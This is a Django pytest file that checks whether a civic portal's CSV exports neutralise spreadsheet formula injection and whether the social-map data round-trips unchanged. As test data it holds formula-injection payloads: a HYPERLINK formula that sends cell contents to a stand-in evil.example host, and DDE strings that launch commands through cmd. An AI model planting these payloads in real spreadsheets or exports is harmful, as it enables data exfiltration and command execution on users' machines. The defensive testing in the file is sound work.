"""CSV exports never hand a spreadsheet a formula (issue 16, item 13), and the sociale-kaart
export → import → export round trip stays identical with the guard in place."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone

from directory.models import Organisation
from locations.models import Location
from portal.core.exchange import export_files, import_files, spreadsheet_files
from portal.csv_cells import escape_formula, unescape_formula
from portal.editorial.models import ResidentReport
from portal.groups import MODERATORS, WIJKRACHT_EDITORS

from .editorial_helpers import make_location, make_organisation, make_service, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+31 74 000 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=al met apostrof",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(cells):
    for cell in cells:
        assert not cell.startswith(DANGEROUS_START), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_escape_and_unescape_are_inverse(value):
    escaped = escape_formula(value)
    assert not escaped.startswith(DANGEROUS_START)
    assert unescape_formula(escaped) == value
    assert escape_formula("Gewone tekst") == "Gewone tekst"
    assert unescape_formula("'gewoon citaat") == "'gewoon citaat"


def test_reports_inbox_csv_export_neutralises_formulas(client):
    location = make_location(name="=cmd|' /C calc'!A0")
    for text in HOSTILE:
        ResidentReport.objects.create(
            content_type=ContentType.objects.get_for_model(Location),
            object_id=location.pk,
            item_title=location.name,
            problem="iets-anders",
            message=text,
        )
    moderator = make_user("moderator-csv", groups=[MODERATORS, WIJKRACHT_EDITORS])
    client.force_login(moderator)
    response = client.get(reverse("meldingen:index"), {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    cells = csv_cells(content)
    assert_no_formula(cells)
    for text in HOSTILE:
        assert escape_formula(text) in cells  # the text itself is all there
    # The .xlsx export was already safe (cells typed as text) and stays so.
    xlsx = client.get(reverse("meldingen:index"), {"export": "xlsx"})
    assert xlsx.status_code == 200


def test_due_items_csv_export_neutralises_formulas(client):
    editor = make_user("redacteur-csv", groups=[WIJKRACHT_EDITORS])
    client.force_login(editor)
    old = timezone.localdate() - datetime.timedelta(days=500)
    make_location(name="@SUM(1+1)*cmd|' /C calc'!A0", last_verified=old)
    response = client.get(reverse("editorial_due:index"), {"export": "csv"})
    cells = csv_cells(b"".join(response.streaming_content).decode())
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert_no_formula(cells)


def test_sociale_kaart_export_is_safe_and_round_trips_identically():
    organisation = make_organisation(
        name='=HYPERLINK("https://evil.example","klik")',
        slug="formule",
        summary="-2+3+cmd|' /C calc'!A0",
        phone="+31 74 000 1234",
        street="@straat 1",
        website="https://example.org",
    )
    make_service(organisation, name="'=al met apostrof", slug="apostrof", description="=1+1")
    make_location(
        name="+Wijkentree",
        slug="plus",
        organisation=organisation,
        accessibility="- rolstoel: ja",
    )
    first = export_files()
    cells = [cell for name in spreadsheet_files.names() for cell in csv_cells(first[name])]
    assert_no_formula(cells)
    assert "'+31 74 000 1234" in cells
    assert "''=al met apostrof" in cells

    # Import the export: nothing changes (the guard is stripped again, exactly once) ...
    result = import_files(first)
    assert result.ok, result.problems
    assert sum(c.created + c.updated for c in result.counts.values()) == 0, result.counts
    organisation = Organisation.objects.get(slug="formule")
    assert organisation.phone == "+31 74 000 1234"
    assert organisation.name.startswith("=HYPERLINK")
    # ... and the next export is identical.
    assert export_files() == first
